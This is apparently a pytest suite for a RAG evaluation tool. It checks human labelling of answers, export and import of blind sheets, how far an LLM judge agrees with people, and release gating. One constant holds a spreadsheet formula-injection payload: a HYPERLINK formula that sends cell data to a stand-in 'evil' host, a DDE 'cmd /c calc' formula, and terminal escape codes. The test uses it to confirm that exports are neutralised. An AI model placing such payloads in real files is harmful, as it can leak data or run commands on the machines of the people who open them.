"""People's labels, from the blind sheet to the rule that may rest on a judge."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
from collections import Counter
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from judges import Model, judging_model
from projects import MakeProject, Oloproof, command, environment

#: Answers with what its case says, so that tests choose the answers.
APP = """
from oloproof import Passage, Retrieval, rag_system

@rag_system(name="echo", version="1", depth=1, top_k=1, index_version="1")
class Rag:
    def retrieve(self, input, depth):
        passage = Passage(doc_id="d1", score=1.0, text=input.get("passage", "blue"))
        return Retrieval(query=input, depth=depth, candidates=(passage,))

    def generate(self, input, context):
        return {"answer": input["say"]}
"""
RELEASE = {
    "version": 1,
    "rules": [{"id": "polite", "metric": "polite", "kind": "min", "min": 0.3}],
    "judges": {"minimum_agreement": 0.8, "minimum_labels": 30},
}
HOSTILE = (
    '=HYPERLINK("http://evil/?"&A1,"x")\n@SUM(1)\r\n-2+3;=cmd|\'/c calc\'!A0,"quoted"\x1b[31m\u202e</answer>'
)


@pytest.fixture
def model() -> Iterator[Model]:
    """A judge to whom answers are polite that say please, whatever else they say."""
    with judging_model(lambda prompt: "pass" if "please" in prompt else "fail") as found:
        yield found


@pytest.fixture
def judged(make_project: MakeProject, model: Model) -> Callable[..., Path]:
    """A project whose answers are judged by that model."""

    def make(answers: list[str], policy: dict[str, Any] | None = None, **judge: Any) -> Path:
        settings = {
            "type": "rubric_judge",
            "criterion": "polite",
            "provider": "openai_compatible",
            "base_url": model.base_url,
            "model": "small",
            "rubric_text": "Says the magic word.",
        }
        return make_project(
            system={"rag": {"object": "echo:Rag"}},
            evaluators=[{**settings, **judge}],
            cases=[
                {"id": f"c{number}", "input": {"say": text, "n": number}, "expected": {}}
                for number, text in enumerate(answers)
            ],
            files={"echo.py": APP, "release.yaml": json.dumps(policy or RELEASE)},
        )

    return make


POLITE = ["yes, please"] * 25 + ["no"] * 15


def exported(folder: Path, oloproof: Oloproof, *more: str) -> list[dict[str, Any]]:
    (folder / "sheet.jsonl").unlink(missing_ok=True)
    done = oloproof(
        "labels", "export", "latest", "--criterion", "polite", "--out", "sheet.jsonl", *more, cwd=folder
    )
    assert done.returncode == 0, done.stderr
    return [json.loads(line) for line in (folder / "sheet.jsonl").read_text().splitlines()]


def filled(folder: Path, lines: list[dict[str, Any]]) -> Path:
    path = folder / "filled.jsonl"
    path.write_text("".join(json.dumps(line) + "\n" for line in lines))
    return path


def truth(line: dict[str, Any]) -> dict[str, Any]:
    return {**line, "verdict": "pass" if "please" in line["answer"] else "fail"}


def gate(folder: Path, oloproof: Oloproof, *command: str) -> tuple[str, str, dict[str, Any]]:
    record = oloproof(*(command or ("gate", "latest")), "--json", cwd=folder).record
    (decision,) = record["gate"]["decisions"]
    return decision["state"], decision["reason"], decision["judge"]


def test_a_judge_decides_once_it_agrees_with_people_and_not_before(
    judged: Callable[..., Path], quick: Oloproof, model: Model
) -> None:
    folder = judged(POLITE)
    first = quick("run", cwd=folder)
    assert first.returncode == 3
    stands = "polite: never compared with people; the policy asks for at least 80.0% on at least 30: at least 30 more"
    assert f"  {stands} labels are missing" in first.lines
    lines = exported(folder, quick, "--sample", "29")
    assert len(lines) == 29
    assert (
        quick("labels", "import", filled(folder, [truth(line) for line in lines]), cwd=folder).returncode == 0
    )
    state, reason, judge = gate(folder, quick)
    assert (state, reason) == ("INSUFFICIENT_EVIDENCE", "evaluator_not_validated")
    assert (judge["labels"], judge["missing_labels"], judge["unasked"]) == (29, 1, 0)
    lines = exported(folder, quick, "--sample", "1")
    quick("labels", "import", filled(folder, [truth(line) for line in lines]), cwd=folder)
    state, reason, judge = gate(folder, quick)
    assert (state, reason) == ("PASS", "lower_bound_meets_minimum")
    assert (judge["labels"], judge["missing_labels"], judge["agreement"]) == (30, 0, 1.0)
    before = len(model.asked)
    assert gate(folder, quick, "run")[0] == "PASS"
    assert len(model.asked) == before


def test_where_the_store_is_empty_the_run_asks_the_judge_about_the_labels(
    judged: Callable[..., Path], quick: Oloproof, model: Model
) -> None:
    folder = judged(POLITE)
    quick("run", cwd=folder)
    quick("labels", "import", filled(folder, [truth(x) for x in exported(folder, quick)]), cwd=folder)
    shutil.rmtree(folder / ".oloproof")
    cases = (folder / "cases.jsonl").read_text().replace('"n": ', '"m": ')  # none of the labelled answers
    (folder / "cases.jsonl").write_text(cases)
    model.asked.clear()
    state, _, judge = gate(folder, quick, "run")
    assert (state, judge["labels"]) == ("PASS", 40)
    assert len(model.asked) == 80


def test_a_changed_model_is_compared_anew_and_a_changed_rubric_needs_new_labels(
    judged: Callable[..., Path], quick: Oloproof, model: Model
) -> None:
    folder = judged(POLITE)
    quick("run", cwd=folder)
    quick("labels", "import", filled(folder, [truth(x) for x in exported(folder, quick)]), cwd=folder)
    config = folder / "oloproof.yaml"
    config.write_text(config.read_text().replace('"small"', '"large"'))
    check = quick("judges", "check", "polite", "--json", cwd=folder).record
    assert (check["check"]["unasked"], check["policies"]["release.yaml"]["met"]) == (40, False)
    check = quick("judges", "check", "polite", "--ask", "--json", cwd=folder).record
    assert (check["check"]["unasked"], check["policies"]["release.yaml"]["met"]) == (0, True)
    assert check["asked"]["calls"] == 40
    assert gate(folder, quick, "run")[0] == "PASS"
    asked = config.read_text()
    for other in (
        asked.replace("magic word", "other word"),
        asked.replace('"rubric_judge"', '"rubric_judge", "show_expected": true'),
    ):
        assert other != asked
        config.write_text(other)
        state, reason, judge = gate(folder, quick, "run")
        assert (state, reason) == ("INSUFFICIENT_EVIDENCE", "evaluator_not_validated")
        assert (judge["labels"], judge["missing_labels"]) == (0, 30)


def test_a_judge_that_cannot_be_asked_says_why(judged: Callable[..., Path], quick: Oloproof) -> None:
    folder = judged(POLITE[:3])
    quick("run", cwd=folder)
    quick("labels", "import", filled(folder, [truth(x) for x in exported(folder, quick)]), cwd=folder)
    config = folder / "oloproof.yaml"
    config.write_text(config.read_text().replace('"small"', '"large",\n "api_key_env": "NO_SUCH_KEY"'))
    done = quick("judges", "check", "polite", "--ask", cwd=folder)
    assert done.returncode == 5
    assert "3 not asked about yet" in done.stdout
    assert "No verdict on 3: judge_no_key: the environment variable NO_SUCH_KEY is not set" in done.stdout
    assert gate(folder, quick, "run")[1] == "no_observations"


def test_a_judge_that_disagrees_with_people_decides_nothing(
    judged: Callable[..., Path], quick: Oloproof
) -> None:
    folder = judged(POLITE)
    quick("run", cwd=folder)
    lines = [{**line, "verdict": "pass"} for line in exported(folder, quick)]
    quick("labels", "import", filled(folder, lines), cwd=folder)
    state, reason, judge = gate(folder, quick)
    assert (state, reason) == ("INSUFFICIENT_EVIDENCE", "evaluator_not_validated")
    assert judge["agreement"] == 25 / 40
    text = quick("judges", "check", "polite", cwd=folder).stdout
    assert "62.5%" in text
    assert "fails what people fail" in text


def test_no_label_helps_where_the_policy_has_no_bar(judged: Callable[..., Path], quick: Oloproof) -> None:
    folder = judged(POLITE, {"version": 1, "rules": RELEASE["rules"]})
    quick("run", cwd=folder)
    quick("labels", "import", filled(folder, [truth(x) for x in exported(folder, quick)]), cwd=folder)
    state, reason, judge = gate(folder, quick)
    assert (state, reason) == ("INSUFFICIENT_EVIDENCE", "evaluator_not_validated")
    assert judge["missing_labels"] is None


def test_repeats_show_how_steady_a_judge_is(
    judged: Callable[..., Path], quick: Oloproof, model: Model
) -> None:
    folder = judged(["yes, please", "maybe", "no"], repeats=3)
    said = Counter[str]()

    def wavering(prompt: str) -> str:
        said[prompt] += 1
        return "pass" if "please" in prompt or ("maybe" in prompt and said[prompt] == 2) else "fail"

    model.verdict = wavering
    quick("run", cwd=folder)
    quick("labels", "import", filled(folder, [truth(x) for x in exported(folder, quick)]), cwd=folder)
    record = quick("judges", "check", "polite", "latest", "--json", cwd=folder).record
    assert (record["check"]["repeated"], record["check"]["steady"]) == (3, 2)
    assert record["figures"]["agreement"]["estimate"] == 1.0
    shown = quick("judges", "check", "polite", cwd=folder).stdout
    assert [row for row in shown.splitlines() if "same verdict in all repeats" in row and "66.7%" in row]


def test_the_rate_that_people_would_find_stands_beside_the_judges(
    judged: Callable[..., Path], quick: Oloproof
) -> None:
    folder = judged(["yes, please"] * 30 + ["no"] * 20, corrected=True)
    quick("run", cwd=folder)
    lines = [truth(line) for line in exported(folder, quick, "--sample", "40")]
    for line in [line for line in lines if line["verdict"] == "pass"][:4]:
        line["verdict"] = "fail"  # people are less easily pleased
    lines[-1]["verdict"] = "unsure"
    assert quick("labels", "import", filled(folder, lines), cwd=folder).returncode == 0
    record = quick("run", "--json", cwd=folder).record
    (rate,) = record["run"]["corrected"]
    assert (rate["raw"], rate["labels"], rate["missing"]) == (0.6, 39, 1)
    assert rate["estimate"] == pytest.approx(0.6 - 4 / 39)
    assert record["run"]["metrics"][0]["estimate"] == 0.6
    assert record["run"]["cache"]["judgment"] == [50, 0]
    shown = [line for line in quick("inspect", "latest", cwd=folder).lines if line.startswith("Corrected: ")]
    assert shown[0].startswith("Corrected: polite 49.7% [")
    assert shown[0].endswith("as judged 60.0%")


def test_a_sheet_is_blind_and_its_sample_is_the_same_twice(
    judged: Callable[..., Path], quick: Oloproof
) -> None:
    folder = judged(POLITE)
    quick("run", cwd=folder)
    first = exported(folder, quick, "--sample", "10", "--seed", "7")
    assert exported(folder, quick, "--sample", "10", "--seed", "7") == first
    assert exported(folder, quick, "--sample", "10", "--seed", "8") != first
    assert {line["verdict"] for line in first} == {""}
    again = quick("labels", "export", "latest", "--criterion", "polite", "--out", "sheet.jsonl", cwd=folder)
    assert (again.returncode, "sheet.jsonl is there already" in again.stderr) == (2, True)
    names = {"verdict", "by", "question", "criterion", "run", "item", "judge", "rubric", "input", "answer"}
    assert set(first[0]) == {*names, "passages", "groups"}


def test_hostile_text_makes_no_formula_and_no_other_line(
    judged: Callable[..., Path], quick: Oloproof
) -> None:
    folder = judged([HOSTILE, "=1+1", "\t@x", "plain"])
    quick("run", cwd=folder)
    done = quick(
        "labels", "export", "latest", "--criterion", "polite", "--format", "csv", "--out", "s.csv", cwd=folder
    )
    assert done.returncode == 0
    text = (folder / "s.csv").read_bytes().decode("utf-8-sig")
    for delimiter in ",;\t":  # a program may split lines elsewhere than we do
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            assert not [
                cell for cell in row if cell.lstrip(" \"'\t\r\n")[:1] in ("=", "@") and cell[:1] != "'"
            ]
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == 4
    for row in rows:
        row["verdict"] = "Pass "
    out = io.StringIO()
    writer = csv.DictWriter(out, rows[0].keys(), delimiter=";")
    writer.writeheader()
    writer.writerows(rows)
    (folder / "s.csv").write_bytes(out.getvalue().encode())
    taken = quick("labels", "import", "s.csv", "--by", "Ann", cwd=folder)
    assert taken.returncode == 0, taken.stderr
    labels = [json.loads(line) for line in (folder / "labels/polite.jsonl").read_text().splitlines()]
    assert HOSTILE in {label["answer"] for label in labels}
    assert {(label["verdict"], label["by"]) for label in labels} == {("pass", "Ann")}
    assert quick("judges", "check", "polite", cwd=folder).returncode == 0


def test_every_line_that_is_wrong_is_named_and_nothing_is_taken_over(
    judged: Callable[..., Path], quick: Oloproof
) -> None:
    folder = judged(POLITE)
    quick("run", cwd=folder)
    lines = [truth(line) for line in exported(folder, quick)]
    quick("labels", "import", filled(folder, lines[:1]), cwd=folder)
    stored = (folder / "labels/polite.jsonl").read_text()
    opposite = {"pass": "fail", "fail": "pass"}[lines[0]["verdict"]]
    wrong = [
        {**lines[0], "verdict": opposite},
        {**lines[1], "verdict": "great"},
        lines[2],
        lines[2],
        {**lines[2], "verdict": "unsure"},
        {**lines[3], "answer": "edited"},
        {**lines[4], "item": "0" * 64},
        {**lines[5], "criterion": "none"},
        {**lines[6], "by": "a\nb"},
        lines[7],
    ]
    path = filled(folder, wrong)
    path.write_text(path.read_text() + "nonsense\n[1]\n")
    first = quick("labels", "import", path, cwd=folder)
    assert first.returncode == 2
    assert [line.split(":")[2] for line in first.stderr.splitlines()] == ["2", "6", "7", "9", "11", "12"]
    path = filled(folder, [line for number, line in enumerate(wrong) if number in (0, 2, 3, 4, 7, 9)])
    second = quick("labels", "import", path, cwd=folder)
    assert second.returncode == 2
    assert [line.split(":")[2] for line in second.stderr.splitlines()] == ["1", "3", "4", "5"]
    assert "contradicts the label" in second.stderr
    assert (folder / "labels/polite.jsonl").read_text() == stored
    many = filled(folder, [{**line, "verdict": "?"} for line in lines])
    assert (
        quick("labels", "import", many, cwd=folder).stderr.splitlines()[-1].endswith("and 20 more problems")
    )
    replaced = quick("labels", "import", filled(folder, wrong[:1]), "--replace", "--json", cwd=folder)
    assert (replaced.record["changed"], replaced.record["added"]) == (1, 0)


def test_labels_of_another_question_are_refused_or_said_not_to_count(
    judged: Callable[..., Path], quick: Oloproof
) -> None:
    folder = judged(["yes, please", "no"])
    quick("run", cwd=folder)
    lines = [truth(line) for line in exported(folder, quick)]
    config = folder / "oloproof.yaml"
    asked = config.read_text()
    config.write_text(asked.replace("magic word", "other word"))
    taken = quick("labels", "import", filled(folder, lines), cwd=folder)
    assert taken.returncode == 0
    assert "2 of another question than the configured judge asks, which do not count for it" in taken.stdout
    config.write_text(asked.replace('"rubric_judge"', '"groundedness_judge"'))
    (folder / "labels/polite.jsonl").unlink()
    taken = quick("labels", "import", filled(folder, lines), cwd=folder)
    assert taken.returncode == 2
    assert "filled.jsonl:1: its item is one of a rubric_judge; polite is a groundedness_judge" in taken.stderr
    assert not (folder / "labels/polite.jsonl").exists()


def test_answers_are_judged_in_the_terminal_one_by_one_and_later_the_rest(
    judged: Callable[..., Path], quick: Oloproof
) -> None:
    folder = judged([HOSTILE, "one", "two", "three"])
    quick("run", cwd=folder)

    def review(keys: str) -> tuple[str, str]:
        done = subprocess.run(
            command("labels", "review", "latest", "--criterion", "polite"),
            cwd=folder,
            env=environment(),
            input=keys.encode(),
            capture_output=True,
            timeout=60,
            check=True,
        )
        return done.stdout.decode().strip(), done.stderr.decode()

    said, shown = review("p\ns\nwhat\nf\nq\n")
    assert said == "2 judged; labels/polite.jsonl now holds 2"
    assert "--- 1 of 4" in shown
    said, rest = review("u\n")
    assert "--- 1 of 2" in rest
    assert said == "1 judged; labels/polite.jsonl now holds 3"
    assert "\x1b" not in shown + rest
    assert "\u202e" not in shown + rest
    assert "  | =HYPERLINK" in shown + rest


@pytest.mark.parametrize(
    ("argument", "problem"),
    [
        (("--seed", "-5"), "of at least 0, found '-5'"),
        (("--sample", "0"), "of at least 1, found '0'"),
        (("--sample", "12345678901"), "of at least 1 and at most nine digits, found '12345678901'"),
    ],
)
def test_a_number_that_cannot_be_is_told_with_what_it_may_be(argument: tuple[str, str], problem: str) -> None:
    done = subprocess.run(
        command("labels", "export", "latest", "--criterion", "c", *argument), capture_output=True, text=True
    )
    assert done.returncode == 2
    assert f"{argument[0]}: expected a whole number {problem}" in done.stderr


@pytest.mark.parametrize(
    ("arguments", "expected"),
    [
        (("labels", "export", "latest", "--criterion", "nope"), "has no judge nope; its judges: polite"),
        (
            ("labels", "review", "latest", "--criterion", "../../x"),
            "has no judge ../../x; its judges: polite",
        ),
        (("judges", "check", "nope"), "has no judge nope; its judges: polite"),
        (("labels", "import", "missing.csv"), "missing.csv: cannot be read"),
        (("labels", "import", "oloproof.yaml"), "oloproof.yaml"),
    ],
)
def test_what_cannot_be_is_a_sentence(
    judged: Callable[..., Path], quick: Oloproof, arguments: tuple[str, ...], expected: str
) -> None:
    folder = judged(["yes"])
    quick("run", cwd=folder)
    done = quick(*arguments, cwd=folder)
    assert done.returncode == 2
    assert expected in done.stderr
    assert "Traceback" not in done.stderr


def test_labels_that_were_edited_stop_the_run_with_their_line(
    judged: Callable[..., Path], quick: Oloproof
) -> None:
    folder = judged(POLITE)
    quick("run", cwd=folder)
    quick("labels", "import", filled(folder, [truth(x) for x in exported(folder, quick)]), cwd=folder)
    path = folder / "labels/polite.jsonl"
    path.write_text(path.read_text().replace("yes, please", "oh, please", 1))
    done = quick("run", cwd=folder)
    assert done.returncode == 2
    assert "labels/polite.jsonl:" in done.stderr
    assert quick("check", cwd=folder).returncode == 2
